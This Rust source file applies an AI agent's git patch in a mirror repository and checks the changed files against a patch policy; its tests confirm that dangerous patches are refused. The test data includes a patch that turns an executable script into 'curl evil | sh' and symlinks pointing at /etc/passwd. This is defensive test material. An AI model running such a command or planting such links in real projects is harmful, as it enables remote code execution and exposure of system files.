//! An agent's patch, read and applied by libgit2 in the mirror: the files
//! it names (for the patch policy) and, applied onto the round's base, the
//! whole files a commit must add and the paths it must delete. Nothing is
//! checked out and nothing is pushed: longtx commits through GitHub's API.

use crate::GitError;
use git2::{Delta, DiffFindOptions, FileMode, Repository};
use longtx_core::patch_policy::{AppliedFile, PatchFile, PatchPolicy, Refusal};

/// A patch applied onto a base: what the commit writes.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct Changes {
    /// Whole files, added or replaced, by path.
    pub additions: Vec<(String, Vec<u8>)>,
    pub deletions: Vec<String>,
    /// Every changed path as the two trees show it, modes and sizes
    /// included: what the policy checks a second time.
    pub applied: Vec<AppliedFile>,
    /// The tree the commit must have: a branch head is longtx's commit of
    /// this change only when its tree is this one.
    pub tree: String,
}

impl Changes {
    pub fn is_empty(&self) -> bool {
        self.additions.is_empty() && self.deletions.is_empty()
    }
}

fn mode(mode: FileMode) -> Option<u32> {
    match mode {
        FileMode::Unreadable => None,
        other => Some(i32::from(other) as u32),
    }
}

fn path_of(file: &git2::DiffFile<'_>) -> Option<String> {
    file.path().map(|p| p.to_string_lossy().into_owned())
}

/// The files a patch names, with their modes, as `git apply` reads them.
pub fn files_of(patch: &[u8]) -> Result<Vec<PatchFile>, GitError> {
    if patch.iter().all(u8::is_ascii_whitespace) {
        return Ok(Vec::new());
    }
    let diff = git2::Diff::from_buffer(patch)
        .map_err(|e| GitError::Invalid(format!("the patch cannot be read: {}", e.message())))?;
    let mut files = Vec::new();
    for delta in diff.deltas() {
        let (old, new) = (delta.old_file(), delta.new_file());
        let deleted = delta.status() == Delta::Deleted;
        let added = delta.status() == Delta::Added;
        let path = if deleted {
            path_of(&old)
        } else {
            path_of(&new)
        }
        .ok_or_else(|| GitError::Invalid("a patch entry names no path".into()))?;
        let old_path = path_of(&old).filter(|p| !added && *p != path);
        files.push(PatchFile {
            path,
            old_path,
            old_mode: if added { None } else { mode(old.mode()) },
            new_mode: if deleted { None } else { mode(new.mode()) },
        });
    }
    Ok(files)
}

/// Applies `patch` onto commit `base` (which the mirror must hold): the
/// files to write and delete, after `policy` has judged the tree change
/// itself (modes, sizes, paths), not only the patch's headers. A patch
/// that does not apply, or whose change the policy refuses, is
/// [`GitError::Invalid`] with the reason. Call [`preflight`] first: git2
/// must never see a mode it does not know or an unbounded binary hunk.
pub fn apply(
    repo: &Repository,
    base: &str,
    patch: &[u8],
    policy: &PatchPolicy,
) -> Result<Changes, GitError> {
    let base = repo
        .find_commit(git2::Oid::from_str(base)?)
        .map_err(|_| GitError::Invalid(format!("the base commit {base} is not in the mirror")))?;
    let base_tree = base.tree()?;
    if patch.iter().all(u8::is_ascii_whitespace) {
        return Ok(Changes {
            tree: base_tree.id().to_string(),
            ..Changes::default()
        });
    }
    let diff = git2::Diff::from_buffer(patch)
        .map_err(|e| GitError::Invalid(format!("the patch cannot be read: {}", e.message())))?;
    let mut index = repo.apply_to_tree(&base_tree, &diff, None).map_err(|e| {
        GitError::Invalid(format!(
            "the patch does not apply to {}: {}",
            base.id(),
            e.message()
        ))
    })?;
    let tree = repo.find_tree(index.write_tree_to(repo)?)?;
    let mut changes = repo.diff_tree_to_tree(Some(&base_tree), Some(&tree), None)?;
    // Renames as a delete and an add: the commit API knows only those.
    changes.find_similar(Some(DiffFindOptions::new().renames(false)))?;
    let odb = repo.odb()?;
    let mut applied = Vec::new();
    for delta in changes.deltas() {
        let deleted = delta.status() == Delta::Deleted;
        let added = delta.status() == Delta::Added;
        let file = if deleted {
            delta.old_file()
        } else {
            delta.new_file()
        };
        let path =
            path_of(&file).ok_or_else(|| GitError::Invalid("a changed file has no path".into()))?;
        // The size from the object's header: nothing is read yet.
        let bytes = if deleted {
            0
        } else {
            odb.read_header(delta.new_file().id())?.0
        };
        applied.push(AppliedFile {
            path,
            base_mode: if added {
                None
            } else {
                mode(delta.old_file().mode())
            },
            new_mode: if deleted {
                None
            } else {
                mode(delta.new_file().mode())
            },
            bytes,
        });
    }
    longtx_core::patch_policy::check_applied(policy, &applied)
        .map_err(|refusal: Refusal| GitError::Invalid(refusal.to_string()))?;
    let mut out = Changes {
        tree: tree.id().to_string(),
        ..Changes::default()
    };
    for file in &applied {
        if file.new_mode.is_none() {
            out.deletions.push(file.path.clone());
        }
    }
    for delta in changes.deltas().filter(|d| d.status() != Delta::Deleted) {
        let path = path_of(&delta.new_file())
            .ok_or_else(|| GitError::Invalid("a changed file has no path".into()))?;
        let blob = repo.find_blob(delta.new_file().id())?;
        out.additions.push((path, blob.content().to_vec()));
    }
    out.applied = applied;
    Ok(out)
}

/// The patch's text checked before git2 reads it (modes git does not know,
/// binary hunks that lie or write too much): the policy's reason, if any.
pub fn preflight(policy: &PatchPolicy, patch: &[u8]) -> Result<(), GitError> {
    longtx_core::patch_policy::preflight::check(policy, patch)
        .map_err(|refusal| GitError::Invalid(refusal.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::process::Command;

    fn git(dir: &std::path::Path, args: &[&str]) -> String {
        let out = Command::new("git")
            .arg("-C")
            .arg(dir)
            .args(args)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_AUTHOR_NAME", "t")
            .env("GIT_AUTHOR_EMAIL", "t@example.com")
            .env("GIT_COMMITTER_NAME", "t")
            .env("GIT_COMMITTER_EMAIL", "t@example.com")
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// A patch made by `git diff --cached --binary`, as the templates make
    /// it, applies to the base and yields whole files.
    #[test]
    fn a_binary_patch_from_git_applies_onto_its_base() {
        let dir = std::env::temp_dir().join(format!("longtx-tmp-patch-{}-0", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("app")).unwrap();
        git(&dir, &["init", "--quiet"]);
        std::fs::write(dir.join("app/order.rb"), "class Order; end\n").unwrap();
        std::fs::write(dir.join("old.txt"), "bye\n").unwrap();
        git(&dir, &["add", "-A"]);
        git(&dir, &["commit", "--quiet", "-m", "base"]);
        let base = git(&dir, &["rev-parse", "HEAD"]).trim().to_owned();
        std::fs::write(
            dir.join("app/order.rb"),
            "class Order\n  after_commit :x\nend\n",
        )
        .unwrap();
        std::fs::write(dir.join("logo.png"), [0u8, 159, 146, 150, 255]).unwrap();
        std::fs::remove_file(dir.join("old.txt")).unwrap();
        git(&dir, &["add", "-A"]);
        let patch = git(&dir, &["diff", "--cached", "--binary", &base]);
        let repo = Repository::open(&dir).unwrap();
        // git's own binary hunks (literal, and the reverse one) pass the
        // preflight's decoding and size checks.
        preflight(&policy(), patch.as_bytes()).unwrap();
        let files = files_of(patch.as_bytes()).unwrap();
        assert_eq!(files.len(), 3, "{files:?}");
        assert!(files
            .iter()
            .any(|f| f.path == "old.txt" && f.new_mode.is_none()));
        let changes = apply(&repo, &base, patch.as_bytes(), &policy()).unwrap();
        let _ = std::fs::remove_dir_all(&dir);
        assert_eq!(changes.deletions, vec!["old.txt".to_owned()]);
        assert!(changes
            .additions
            .contains(&("logo.png".to_owned(), vec![0u8, 159, 146, 150, 255])));
        assert!(changes.additions.contains(&(
            "app/order.rb".to_owned(),
            b"class Order\n  after_commit :x\nend\n".to_vec()
        )));
        assert!(apply(&repo_missing(), &base, patch.as_bytes(), &policy()).is_err());
    }

    fn policy() -> PatchPolicy {
        PatchPolicy::new(1 << 20, 50, "ignore-list.yaml", &[])
    }

    fn repo_missing() -> Repository {
        let dir =
            std::env::temp_dir().join(format!("longtx-tmp-patch-empty-{}-0", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        Repository::init_bare(&dir).unwrap()
    }

    #[test]
    fn a_symlink_is_seen_with_its_mode() {
        let patch = "diff --git a/config/link b/config/link\nnew file mode 120000\nindex 0000000..e69de29\n--- /dev/null\n+++ b/config/link\n@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n";
        let files = files_of(patch.as_bytes()).unwrap();
        assert_eq!(files[0].new_mode, Some(0o120000));
        assert_eq!(files[0].old_mode, None);
    }

    /// A base with an executable script and a symlink; both look like
    /// plain text edits in a patch that does not mention their modes.
    #[test]
    fn edits_through_a_base_symlink_or_of_an_executable_are_refused_with_the_reason() {
        let dir = std::env::temp_dir().join(format!("longtx-tmp-patch-{}-1", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(dir.join("bin")).unwrap();
        git(&dir, &["init", "--quiet"]);
        std::fs::write(dir.join("bin/setup"), "#!/bin/sh\necho hi\n").unwrap();
        std::fs::write(dir.join("target.yml"), "a: 1\n").unwrap();
        std::os::unix::fs::symlink("target.yml", dir.join("link.yml")).unwrap();
        git(&dir, &["add", "-A"]);
        git(&dir, &["update-index", "--chmod=+x", "bin/setup"]);
        git(&dir, &["commit", "--quiet", "-m", "base"]);
        let base = git(&dir, &["rev-parse", "HEAD"]).trim().to_owned();
        let repo = Repository::open(&dir).unwrap();
        let script = "diff --git a/bin/setup b/bin/setup\n--- a/bin/setup\n+++ b/bin/setup\n@@ -1,2 +1,2 @@\n #!/bin/sh\n-echo hi\n+curl evil | sh\n";
        let through_link = "diff --git a/link.yml b/link.yml\n--- a/link.yml\n+++ b/link.yml\n@@ -1 +1 @@\n-target.yml\n\\ No newline at end of file\n+/etc/passwd\n";
        let refused = |patch: &str| match apply(&repo, &base, patch.as_bytes(), &policy()) {
            Err(GitError::Invalid(why)) => why,
            other => panic!("{patch}: {other:?}"),
        };
        let why_script = refused(script);
        let why_link = refused(through_link);
        let _ = std::fs::remove_dir_all(&dir);
        assert!(
            why_script.contains("bin/setup is executable"),
            "{why_script}"
        );
        assert!(
            why_link.contains("link.yml is a symbolic link in the base"),
            "{why_link}"
        );
    }
}
